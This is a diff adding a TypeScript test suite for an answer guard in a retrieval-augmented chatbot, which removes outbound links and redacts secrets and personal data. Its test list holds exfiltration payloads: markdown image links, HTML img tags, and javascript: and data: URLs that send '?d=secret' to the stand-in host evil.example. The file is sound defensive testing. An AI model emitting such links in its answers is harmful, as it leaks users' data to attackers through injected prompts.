@@ -1,0 +1,106 @@
+import assert from "node:assert/strict";
+import { describe, it } from "node:test";
+
+import fc from "fast-check";
+
+import { addressesIn, AnswerGuard, REMOVED_LINK } from "#rag/safety/answer-guard";
+
+const KNOWN = ["https://docs.acme.example/guide?lang=en"];
+
+function guarded(answer: string, redactPii = false): string {
+  const guard = new AnswerGuard(KNOWN, { redactPii });
+  return guard.push(answer) + guard.flush();
+}
+
+describe("AnswerGuard", () => {
+  for (const answer of [
+    "Refunds take 5 days [1].\n\n- one\n- two [2][3]",
+    "See [the guide](https://docs.acme.example/guide?lang=en).",
+    "See https://docs.acme.example/guide?lang=en.",
+    "Jump to [Refunds](#refunds) or [prices](/prices).",
+    "If a < b and b > c, write 1 // 2, http and a/b.",
+    "Mail ada@example.com: 3:30 pm, ratio 1:2.",
+  ])
+    it(`leaves ${JSON.stringify(answer)} alone`, () => assert.equal(guarded(answer), answer));
+
+  for (const attack of [
+    "![x](https://evil.example/?d=secret)",
+    "![x](//evil.example/?d=secret)",
+    "![x](\\\\evil.example\\d)",
+    "![a b c](<https://evil.example/a b>)",
+    "![x]( https://evil.example/?d=secret )",
+    "![x](\nhttps://evil.example/?d=secret)",
+    "![x](&#104;ttps://evil.example/?d=secret)",
+    "![x](https:&#47;&#47;evil.example/?d=secret)",
+    "![x][1]\n\n[1]: https://evil.example/?d=secret",
+    "[click](https://evil.example/?d=secret)",
+    "[click](javascript:fetch('https://evil.example'))",
+    "[click](data:text/html;base64,PHNjcmlwdD4=)",
+    "<https://evil.example/?d=secret>",
+    "https://evil.example/?d=secret",
+    "www.evil.example/?d=secret",
+    "ftp://evil.example/secret",
+    "https://docs.acme.example/guide?lang=en&d=secret",
+    "https://docs.acme.example/guide?lang=en#secret",
+    '<img src="https://evil.example/?d=secret">',
+    "<IMG SRC=//evil.example/x>",
+    '<iframe srcdoc="&lt;img src=x&gt;"></iframe>',
+  ])
+    it(`takes the call out of ${JSON.stringify(attack)}`, () => {
+      const guard = new AnswerGuard(KNOWN, { redactPii: false });
+      const answer = guard.push(`Before. ${attack} After.`) + guard.flush();
+      assert.ok(answer.startsWith("Before. ") && answer.endsWith(" After."), answer);
+      assert.doesNotMatch(answer, /!\[|evil\.example\/?\?|:\/\/evil|\/\/evil|<i|javascript:|data:text/i);
+      assert.equal(guard.hasRemoved, true);
+    });
+
+  it("names credentials always, private data where the tenant wants it", () => {
+    const answer = "Use AKIAIOSFODNN7EXAMPLE. Ask ada@example.com or +44 20 7946 0958 now.";
+    assert.equal(guarded(answer), "Use [secret]. Ask ada@example.com or +44 20 7946 0958 now.");
+    assert.equal(guarded(answer, true), "Use [secret]. Ask [email] or [phone] now.");
+  });
+
+  it("gives the same text however the stream was cut", () => {
+    const piece = fc.constantFrom(
+      ..."![x](https://evil.example/?d=1)| [y]( /a)|https://docs.acme.example/guide?lang=en|<img src=x>|. |\n|ada@example.com|+44 20 7946| 0958|[1]|word|!|[|](|Bearer abcdefgh12345678abcd".split(
+        "|",
+      ),
+    );
+    fc.assert(
+      fc.property(
+        fc.array(piece, { maxLength: 20 }).map((parts) => parts.join("")),
+        fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1 }),
+        fc.boolean(),
+        (answer, sizes, redactPii) => {
+          const guard = new AnswerGuard(KNOWN, { redactPii });
+          let out = "";
+          for (let at = 0, turn = 0; at < answer.length; turn++) {
+            const size = sizes[turn % sizes.length] ?? 1;
+            out += guard.push(answer.slice(at, at + size));
+            at += size;
+          }
+          assert.equal(out + guard.flush(), guarded(answer, redactPii));
+        },
+      ),
+    );
+  });
+
+  it("stays fast on a long answer without a blank", () => {
+    const startMs = performance.now();
+    for (const part of ["a", "](", "![", "//", "www.", "<a", "http://x"]) {
+      const guard = new AnswerGuard([], { redactPii: true });
+      for (let n = 0; n < 2_000; n++) guard.push(part);
+      guard.flush();
+    }
+    assert.ok(performance.now() - startMs < 5_000, String(performance.now() - startMs));
+  });
+});
+
+describe("addressesIn", () => {
+  it("finds addresses without the sentence's punctuation", () => {
+    assert.deepEqual(addressesIn(`See https://a.example/x?y=1, or (www.b.example). ${REMOVED_LINK}`), [
+      "https://a.example/x?y=1",
+      "www.b.example",
+    ]);
+  });
+});
